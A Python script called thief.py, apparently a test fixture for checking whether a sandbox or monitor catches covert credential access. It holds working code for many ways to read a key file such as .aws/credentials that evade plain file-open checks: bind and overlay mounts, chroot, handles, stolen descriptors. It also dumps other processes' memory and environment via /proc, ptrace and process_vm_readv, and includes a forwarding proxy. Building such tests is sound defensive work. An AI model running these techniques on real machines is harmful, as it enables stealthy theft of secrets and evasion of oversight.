# SPDX-License-Identifier: Apache-2.0
"""A thief: takes a key file by an unusual way, then sends something out by an unusual way. What it did is its exit
status: 0 done, 77 this kernel or machine does not offer the way (said on standard error).

  thief.py take WAY PATH [out WAY HOST [PORT]]…      WAY: a name of TAKES or OUTS
  thief.py … forks N                                 what is before it is done by so many forks at once
  thief.py proxy                                     forwards CONNECT and SOCKS5; prints its port
"""
import ctypes
import errno
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from thief_outs import OUTS, address, connected, talk  # noqa: E402,F401

LIBC = ctypes.CDLL(None, use_errno=True)
FREE = "/srv/free"  # a folder of the case's disk with nothing in it
_BIND, _NEWNS, _PRIVATE = 4096, 0x20000, 16384 | 1 << 18
_OPEN_TREE, _PIDFD_OPEN, _PIDFD_GETFD = 428, 434, 438


def must(code):
    if code < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return code


def read(path):
    with open(path, "rb") as file:
        return file.read()


def read_fd(fd):
    data = os.read(fd, 65536)
    assert data, "nothing was read"
    return data


def mounted(source, target, kind=None, flags=_BIND, data=None):
    must(LIBC.unshare(_NEWNS))
    must(LIBC.mount(None, b"/", None, ctypes.c_ulong(_PRIVATE), None))
    encode = lambda text: None if text is None else os.fsencode(text)
    must(LIBC.mount(encode(source), encode(target), encode(kind), ctypes.c_ulong(flags), encode(data)))


# ---- takes

def by_bind_of_the_file(path):
    open(FREE + "/stuff", "w").close()
    mounted(path, FREE + "/stuff")
    read(FREE + "/stuff")


def by_bind_of_the_folder(path):
    mounted(os.path.dirname(path), FREE)
    read(FREE + "/" + os.path.basename(path))


def by_rebind_of_the_root(path):
    mounted("/", FREE, flags=_BIND | 16384)
    read(FREE + path)


def by_overlay(path):
    mounted("none", FREE, "tmpfs", 0)
    for name in ("up", "work", "merged"):
        os.mkdir(f"{FREE}/{name}")
    options = f"lowerdir={os.path.dirname(os.path.dirname(path))},upperdir={FREE}/up,workdir={FREE}/work"
    must(LIBC.mount(b"none", os.fsencode(FREE + "/merged"), b"overlay", ctypes.c_ulong(0), options.encode()))
    read(f"{FREE}/merged/.aws/credentials")


def by_detached_mount(path):
    tree = must(LIBC.syscall(_OPEN_TREE, -100, os.fsencode(os.path.dirname(path)), 1))
    read_fd(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=tree))


def by_detached_mount_of_the_file(path):
    tree = must(LIBC.syscall(_OPEN_TREE, -100, os.fsencode(path), 1))
    read(f"/proc/self/fd/{tree}")


def by_chroot(path):
    os.chroot(os.path.dirname(os.path.dirname(path)))
    os.chdir("/")
    read("/.aws/credentials")


def by_handle(path):
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
    handle, mount = Handle(128), ctypes.c_int()
    must(LIBC.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(handle), ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    read_fd(must(LIBC.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)))


def by_map(path):
    import mmap
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as memory:
        assert memory[:1]


def by_memfd(path):
    """The kernel copies the file into memory without a name, from which another program reads it."""
    memory, file = os.memfd_create("x", 0), os.open(path, os.O_RDONLY)
    os.sendfile(memory, file, 0, 65536)
    os.close(file)
    read(f"/proc/self/fd/{memory}")


def by_splice(path):
    file, (out, into) = os.open(path, os.O_RDONLY), os.pipe()
    os.splice(file, into, 65536)
    read_fd(out)


def by_unlinked(path):
    file = os.open(path, os.O_RDONLY)
    os.unlink(path)
    read_fd(file)


def opener(path):
    """A child that opens the file and reads nothing; (its pid, its descriptor)."""
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(into, struct.pack("i", os.open(path, os.O_RDONLY)))
        time.sleep(1)
        os._exit(0)
    return child, struct.unpack("i", os.read(out, 4))[0]


def by_passed_descriptor(path):
    here, there = socket.socketpair()
    if os.fork() == 0:
        socket.send_fds(there, [b"x"], [os.open(path, os.O_RDONLY)])
        os._exit(0)
    read_fd(socket.recv_fds(here, 1, 1)[1][0])
    os.wait()


def by_taken_descriptor(path):
    child, number = opener(path)
    read_fd(must(LIBC.syscall(_PIDFD_GETFD, must(LIBC.syscall(_PIDFD_OPEN, child, 0)), number, 0)))


def by_descriptor_in_proc(path):
    child, number = opener(path)
    read(f"/proc/{child}/fd/{number}")


def by_given_descriptor(path):
    """Of a program that is started with the open file, which it reads without an open."""
    with open(path) as file:
        sys.exit(subprocess.run([sys.executable, "-I", __file__, "take", "stdin", path, *sys.argv[4:]],
                                stdin=file).returncode)


def by_temporary_file(path):
    """Another program writes it into a file that this one has made for that."""
    number, name = tempfile.mkstemp(dir=FREE)
    subprocess.run(["/usr/bin/cat", path], stdout=number, check=True)
    read(name)


def by_tree(path):
    """Every file below it, once each."""
    for folder, _, names in os.walk(path):
        for name in names:
            read(f"{folder}/{name}")


def by_turns(path):
    time.sleep(0.05)
    read(path)


def _links(make):
    def take(path):
        make(path, FREE + "/stuff")
        read(FREE + "/stuff")
    return take


def _environ(pid):
    assert read(f"/proc/{pid}/environ")


def _memory(pid):
    """All of another process's writable memory, as a dumper reads it."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(word, 16) for word in line.split()[0].split("-"))
            if "rw-p" in line and last - first < 1 << 20:
                memory.seek(first)
                memory.read(last - first)


class _Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def _writable(pid):
    """(first, last) of its writable memory of its own."""
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            first, last = (int(word, 16) for word in line.split()[0].split("-"))
            if "rw-p" in line and last - first < 1 << 20:
                yield first, last


def _memory_by_call(pid):
    """process_vm_readv: nothing is opened that is the other's, but for the list of its mappings."""
    got = 0
    for first, last in _writable(pid):
        data = ctypes.create_string_buffer(last - first)
        here, there = _Vector(ctypes.addressof(data), last - first), _Vector(first, last - first)
        got += max(0, LIBC.process_vm_readv(int(pid), ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    if not got:
        must(-1)


def _traced(begin):
    """ptrace, by either way to begin; a word is looked at."""
    def take(pid):
        LIBC.ptrace.restype = ctypes.c_long
        call = lambda what, address=None: LIBC.ptrace(ctypes.c_long(what), int(pid), ctypes.c_void_p(address), None)
        must(call(begin))
        if begin == _SEIZE:
            must(call(_INTERRUPT))
        os.waitpid(int(pid), 0x40000000)  # __WALL
        for first, _ in _writable(pid):
            call(_PEEKDATA, first)
        must(call(_DETACH))
    return take


_PEEKDATA, _ATTACH, _DETACH, _SEIZE, _INTERRUPT = 2, 16, 17, 0x4206, 0x4207


def by_dropping_root(path):
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    read(path)


TAKES = {"open": read, "vm_readv": _memory_by_call, "seize": _traced(_SEIZE), "attach": _traced(_ATTACH),
         "as_nobody": by_dropping_root, "symlink": _links(os.symlink), "hard_link": _links(os.link),
         "rename": _links(os.rename),
         "bind_file": by_bind_of_the_file, "bind_folder": by_bind_of_the_folder, "rebind_root": by_rebind_of_the_root,
         "overlay": by_overlay, "detached": by_detached_mount, "detached_file": by_detached_mount_of_the_file,
         "chroot": by_chroot, "handle": by_handle, "map": by_map, "memfd": by_memfd, "splice": by_splice,
         "unlinked": by_unlinked, "passed": by_passed_descriptor, "pidfd": by_taken_descriptor,
         "proc_fd": by_descriptor_in_proc, "proc_root": lambda path: read("/proc/self/root" + path),
         "path_only": lambda path: read(f"/proc/self/fd/{os.open(path, os.O_PATH)}"), "environ": _environ,
         "memory": _memory, "nothing": lambda _: None, "stdin": lambda _: read_fd(0),
         "descriptor": lambda _: read_fd(3), "given": by_given_descriptor, "fifo": read, "temporary": by_temporary_file,
         "tree": by_tree, "paced": by_turns}


def proxy():
    server = socket.create_server(("0.0.0.0", 0))
    print('{"did": "listen", "port": %d}' % server.getsockname()[1], flush=True)

    def pump(one, other):
        try:
            while data := one.recv(65536):
                other.sendall(data)
        except OSError:
            pass
        other.close()

    def serve(client):
        head, early = client.recv(4096), b""
        if head[:1] == b"\4":
            host, answer = head[8:].split(b"\0")[1].decode(), b"\0\x5a" + bytes(6)
        elif head[:1] == b"\5":
            client.sendall(b"\5\0")
            asked = client.recv(4096)
            host, answer = asked[5:5 + asked[4]].decode(), b"\5\0\0\1\0\0\0\0\0\0"
        else:
            while b"\r\n\r\n" not in head:
                head += client.recv(4096)
            head, _, early = head.partition(b"\r\n\r\n")
            host, answer = head.split()[1].decode().partition(":")[0], b"HTTP/1.1 200 OK\r\n\r\n"
        far = connected(host, 443)
        far.sendall(early)
        client.sendall(answer)
        threading.Thread(target=pump, args=(far, client), daemon=True).start()
        pump(client, far)
    while True:
        threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()


def main(words):
    if words == ["proxy"]:
        proxy()
    if words[-2:-1] == ["forks"]:
        number, words = int(words[-1]), words[:-2]
        while number > 1 and os.fork():  # a child goes on at once
            number -= 1
    while words:
        table, way, what, words = {"take": TAKES, "out": OUTS}[words[0]], words[1], words[2], words[3:]
        more = [words.pop(0) if words and words[0].isdigit() else "443"] if table is OUTS else []
        try:
            table[way](what, *more)
        except OSError as error:
            if error.errno in (errno.ENOSYS, errno.EPERM, errno.EOPNOTSUPP, errno.EPROTONOSUPPORT):
                print(f"{way}: {error}", file=sys.stderr)
                sys.exit(77)
            raise
    time.sleep(0.3)  # who ends within milliseconds of its read may be gone before its file is looked at


if __name__ == "__main__":
    main(sys.argv[1:])
